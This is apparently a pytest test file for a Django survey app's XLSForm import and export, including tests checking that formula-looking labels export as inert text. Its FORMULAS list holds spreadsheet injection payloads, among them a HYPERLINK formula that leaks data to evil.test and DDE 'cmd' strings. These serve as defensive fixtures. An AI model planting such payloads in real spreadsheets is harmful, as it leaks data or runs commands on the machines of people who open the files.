import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from ungkultur.core.models import AuditEntry
from ungkultur.surveys.models import Choice, GridItem, Question, Questionnaire, Section
from ungkultur.surveys.selectors import questionnaire_structure
from ungkultur.surveys.tests.factories import make_questionnaire
from ungkultur.surveys.xlsform import XLSFormError, export_xlsform, import_xlsform, language_of


def workbook(survey, choices=(), settings=None):
    book = Workbook()
    sheet = book.active
    sheet.title = "survey"
    for row in survey:
        sheet.append(list(row))
    if choices:
        sheet = book.create_sheet("choices")
        for row in choices:
            sheet.append(list(row))
    if settings:
        sheet = book.create_sheet("settings")
        for row in settings:
            sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


KOBO_STYLE = workbook(
    survey=[
        (
            "type",
            "name",
            "label::Norsk bokmål (nb)",
            "label::Norsk nynorsk (nn)",
            "label::English (en)",
            "required",
            "relevant",
            "appearance",
            "constraint",
        ),
        ("begin_group", "bakgrunn", "Om deg", "Om deg", "About you", "", "", "field-list", ""),
        ("select_one kjonn", "kjonn", "Er du …", "Er du …", "Are you …", "yes", "", "", ""),
        ("integer", "alder", "Alder", "Alder", "Age", "", "", "", ". >= 10 and . <= 25"),
        ("select_multiple aktivitet", "aktiviteter", "Hva gjør du?", "", "", "", "", "", ""),
        ("end_group", "", "", "", "", "", "", "", ""),
        ("begin group", "kultur", "Kultur", "", "", "", "${alder} >= 13", "", ""),
        ("select_one enig", "fornoyd", "Fornøyd?", "", "", "", "", "likert", ""),
        ("begin group", "moteplass", "Møteplasser", "", "", "", "", "table-list", ""),
        ("select_one enig", "moteplass_inne", "Inne", "", "", "", "", "", ""),
        ("select_one enig", "moteplass_trygg", "Trygt", "", "", "yes", "", "", ""),
        ("end group", "", "", "", "", "", "", "", ""),
        ("decimal", "timer", "Timer i uka", "", "", "", "selected(${aktiviteter}, '2')", "", ""),
        ("text", "onske", "Ønsker", "", "", "", "", "multiline", ""),
        ("end group", "", "", "", "", "", "", "", ""),
    ],
    choices=[
        ("list_name", "name", "label::nb", "label::nn", "label::en"),
        ("kjonn", "1", "Jente", "Jente", "Girl"),
        ("kjonn", "2", "Gutt", "Gut", "Boy"),
        ("aktivitet", "1", "Band", "Band", "Band"),
        ("aktivitet", "2", "Kor", "Kor", "Choir"),
        ("enig", "1", "Uenig", "Usamd", "Disagree"),
        ("enig", "2", "Enig", "Samd", "Agree"),
    ],
    settings=[
        ("form_title", "form_id", "version", "default_language"),
        ("Kultur 2026", "kultur_2026", "3", "Norsk bokmål (nb)"),
    ],
)


def test_language_columns_are_read_by_code_name_or_both():
    assert language_of("Norsk bokmål (nb)") == "nb"
    assert language_of("nb") == "nb"
    assert language_of("Nynorsk") == "nn"
    assert language_of("English (en)") == "en"
    assert language_of("Davvisámegiella (se)") is None


def test_it_imports_groups_grids_lists_conditions_and_translations(personas):
    questionnaire = import_xlsform(actor=personas.researcher, data=KOBO_STYLE)
    assert (questionnaire.title, questionnaire.form_id, questionnaire.version) == (
        "Kultur 2026",
        "kultur_2026",
        "3",
    )
    assert questionnaire.languages == ["nb", "nn", "en"]
    structure = questionnaire_structure(questionnaire)
    assert [s.name for s in structure.sections] == ["bakgrunn", "kultur"]
    assert structure.sections[1].relevant_text == "${alder} >= 13"
    by_name = {q.name: q for q in structure.questions()}
    assert by_name["kjonn"].type == "single" and by_name["kjonn"].required
    assert by_name["kjonn"].labels == {"nb": "Er du …", "nn": "Er du …", "en": "Are you …"}
    assert by_name["kjonn"].choices[1] == ("2", {"nb": "Gutt", "nn": "Gut", "en": "Boy"})
    assert by_name["alder"].type == "number" and not by_name["alder"].allow_decimals
    assert by_name["alder"].constraint_text == ". >= 10 and . <= 25"
    assert by_name["aktiviteter"].type == "multiple"
    assert by_name["fornoyd"].type == "likert"
    grid = by_name["moteplass"]
    assert grid.type == "likert_grid" and grid.list_name == "enig" and grid.required
    assert [name for name, _labels in grid.items] == ["moteplass_inne", "moteplass_trygg"]
    assert by_name["timer"].allow_decimals
    assert by_name["onske"].type == "long_text"
    assert AuditEntry.objects.filter(action="surveys.xlsform_import").count() == 1


def test_it_round_trips_questions_choices_conditions_and_translations(personas):
    original = make_questionnaire(personas.researcher)
    again = import_xlsform(actor=personas.researcher, data=export_xlsform(original))
    first, second = questionnaire_structure(original), questionnaire_structure(again)
    assert first.variables() == second.variables()
    assert [(s.name, s.labels, s.relevant_text) for s in first.sections] == [
        (s.name, s.labels, s.relevant_text) for s in second.sections
    ]
    fields = (
        "name",
        "type",
        "labels",
        "hints",
        "required",
        "relevant_text",
        "constraint_text",
        "constraint_messages",
        "allow_decimals",
        "list_name",
        "choices",
        "items",
    )
    for a, b in zip(first.questions(), second.questions(), strict=True):
        assert {f: getattr(a, f) for f in fields} == {f: getattr(b, f) for f in fields}
    # And once more: the file of the import is the file of the export.
    assert _sheet_rows(export_xlsform(again)) == _sheet_rows(export_xlsform(original))


def _sheet_rows(data):
    book = load_workbook(io.BytesIO(data))
    return {
        name: [r for r in book[name].iter_rows(values_only=True)] for name in ("survey", "choices")
    }


def test_what_cannot_be_represented_is_refused_once_per_feature_and_nothing_is_stored(personas):
    data = workbook(
        survey=[
            ("type", "name", "label", "relevant", "calculation", "choice_filter"),
            ("start", "start", "", "", "", ""),
            ("integer", "b", "B", "${b} == 2", "", ""),
            ("calculate", "c", "", "", "today()", ""),
            ("calculate", "c2", "", "", "today() - 1", ""),
            ("calculate", "c3", "", "", "concat(today(), 'x')", ""),
            ("text", "d", "D", "${b} ^ 1 = 2", "", ""),
            ("begin repeat", "r", "R", "", "", ""),
            ("text", "r1", "R1", "", "", ""),
            ("end repeat", "", "", "", "", ""),
            ("select_one ja", "e", "E", "", "", "pulldata('a', 'b', 'c', 'd') = name"),
            ("select_one ja", "f", "F", "", "", "name = pulldata('a', 'b', 'c', 'd')"),
            ("geopoint", "g", "Hvor?", "", "", ""),
        ],
        choices=[("list_name", "name", "label"), ("ja", "1", "Ja")],
    )
    with pytest.raises(XLSFormError) as error:
        import_xlsform(actor=personas.researcher, data=data)
    assert error.value.errors == [
        "survey, rad 3: relevant: Uventet «=». Sammenlign med ett tegn (=, !=, <, >, <= eller >=) "
        "og én verdi på hver side.",
        "survey, rad 7: relevant: Ukjent tegn «^» i uttrykket (posisjon 6).",
        "survey, rad 8: Gjentakende grupper (repeat) kan ikke brukes i Ungkultur.",
        "survey, rad 13: Typen «geopoint» kan ikke brukes i Ungkultur.",
        # Calculations and choice filters are read, but a function outside the subset is
        # refused once for the form.
        "survey, rad 4: Funksjonen today() i uttrykk kan ikke brukes i Ungkultur. "
        "(Det gjelder også 2 rad(er) til.)",
        "survey, rad 11: Funksjonen pulldata() i uttrykk kan ikke brukes i Ungkultur. "
        "(Det gjelder også 1 rad(er) til.)",
    ]
    assert not Questionnaire.objects.exists()
    assert not Question.objects.exists()


def test_what_pyxform_refuses_is_refused_with_its_row(personas):
    data = workbook(
        survey=[("type", "name", "label"), ("select_one ja", "a", "A")],
        choices=[("list_name", "name", "label"), ("ja", "1", "Ja"), ("ja", "1", "Ja igjen")],
    )
    with pytest.raises(XLSFormError) as error:
        import_xlsform(actor=personas.researcher, data=data)
    assert error.value.errors[0].startswith("pyxform: [row : 3]")
    assert not Questionnaire.objects.exists()


def test_a_file_that_is_not_xlsx_is_refused(personas):
    with pytest.raises(XLSFormError, match="kan ikke leses"):
        import_xlsform(actor=personas.researcher, data=b"type,name,label\n")


def test_the_command_imports_and_reports_errors(personas, tmp_path, capsys):
    good = tmp_path / "skjema.xlsx"
    good.write_bytes(KOBO_STYLE)
    call_command("import_xlsform", str(good))
    assert "Importerte «Kultur 2026»" in capsys.readouterr().out
    bad = tmp_path / "feil.xlsx"
    bad.write_bytes(
        workbook(survey=[("type", "name", "calculation"), ("calculate", "n", "today()")])
    )
    with pytest.raises(CommandError, match=r"survey, rad 2: Funksjonen today\(\)"):
        call_command("import_xlsform", str(bad))
    assert Questionnaire.objects.count() == 1


def test_the_upload_page_imports_for_researchers_only(client, personas):
    url = reverse("surveys:xlsform_import")
    client.force_login(personas.teacher_a)
    assert client.get(url).status_code == 403
    client.force_login(personas.researcher)
    upload = SimpleUploadedFile("skjema.xlsx", KOBO_STYLE)
    response = client.post(url, {"file": upload, "title": "Fra Kobo"})
    questionnaire = Questionnaire.objects.get()
    assert questionnaire.title == "Fra Kobo"
    assert response.url == reverse("surveys:questionnaire_detail", args=[questionnaire.pk])


def test_the_upload_page_lists_the_errors_with_400(client, personas):
    client.force_login(personas.researcher)
    data = workbook(survey=[("type", "name", "label"), ("integer", "1tall", "Tall")])
    response = client.post(
        reverse("surveys:xlsform_import"), {"file": SimpleUploadedFile("f.xlsx", data)}
    )
    assert response.status_code == 400
    assert "pyxform: [row : 2]" in response.content.decode()

    assert not Questionnaire.objects.exists()


def test_the_questionnaire_downloads_as_xlsform(client, personas):
    questionnaire = make_questionnaire(personas.researcher)
    client.force_login(personas.researcher)
    response = client.get(reverse("surveys:xlsform_export", args=[questionnaire.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = _sheet_rows(response.content)
    assert rows["survey"][0][:5] == (
        "type",
        "name",
        "label::Norsk bokmål (nb)",
        "label::Norsk nynorsk (nn)",
        "label::English (en)",
    )
    assert ("select_one ja_nei", "kulturskole") == rows["survey"][4][:2]


# --- Inert export: a label that looks like a formula stays text -------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _with_formula_labels(actor):
    questionnaire = make_questionnaire(actor)
    questionnaire.title = FORMULAS[0]
    questionnaire.save(update_fields=["title"])
    Section.objects.filter(questionnaire=questionnaire).update(label_nb=FORMULAS[1])
    questions = Question.objects.filter(questionnaire=questionnaire)
    questions.filter(name="kjonn").update(label_nb=FORMULAS[0], label_en=FORMULAS[3])
    questions.filter(name="alder").update(hint_nb=FORMULAS[2], constraint_message_nb=FORMULAS[3])
    Choice.objects.filter(choice_list__questionnaire=questionnaire, value="1").update(
        label_nb=FORMULAS[2]
    )
    GridItem.objects.filter(question__questionnaire=questionnaire).update(label_nb=FORMULAS[3])
    return questionnaire


def test_the_xlsform_export_keeps_labels_that_look_like_formulas_as_text(personas):
    questionnaire = _with_formula_labels(personas.researcher)
    book = load_workbook(io.BytesIO(export_xlsform(questionnaire)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    # Exactly as typed: no ' in front, so the form reads back the same.
    assert set(FORMULAS) <= texts
    assert book["settings"]["A2"].value == FORMULAS[0]


def test_a_label_that_looks_like_a_formula_survives_export_and_import(personas):
    original = _with_formula_labels(personas.researcher)
    again = import_xlsform(actor=personas.researcher, data=export_xlsform(original))
    assert again.title == FORMULAS[0]
    by_name = {q.name: q for q in questionnaire_structure(again).questions()}
    assert by_name["kjonn"].labels["nb"] == FORMULAS[0]
    assert by_name["kjonn"].labels["en"] == FORMULAS[3]
    assert by_name["alder"].hints["nb"] == FORMULAS[2]
    assert by_name["alder"].constraint_messages["nb"] == FORMULAS[3]
    assert dict(by_name["kjonn"].choices)["1"]["nb"] == FORMULAS[2]
    assert [labels["nb"] for _name, labels in by_name["moteplass"].items] == [FORMULAS[3]] * 2
    assert {s.labels["nb"] for s in questionnaire_structure(again).sections} >= {FORMULAS[1]}
